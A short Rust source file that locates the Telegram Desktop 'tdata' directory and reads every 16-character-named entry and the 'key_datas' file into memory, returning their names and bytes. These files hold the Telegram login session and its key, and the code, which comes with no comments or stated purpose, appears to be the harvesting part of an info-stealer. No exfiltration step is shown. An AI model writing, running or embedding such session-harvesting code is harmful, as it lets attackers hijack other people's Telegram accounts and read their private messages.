use std::path::PathBuf;

fn data() -> Option<PathBuf> {
    let base = if cfg!(windows) { dirs::config_dir()? } else { dirs::data_dir()? };
    Some(base.join("Telegram Desktop").join("tdata"))
}

pub(crate) fn desktop() -> Vec<(String, Vec<u8>)> {
    let Some(entries) = data().and_then(|it| std::fs::read_dir(it).ok()) else { return Vec::new() };
    entries
        .flatten()
        .filter(|it| it.file_name().len() == 16 || it.file_name() == "key_datas")
        .filter_map(|it| Some((it.file_name().to_string_lossy().into_owned(), std::fs::read(it.path()).ok()?)))
        .collect()
}
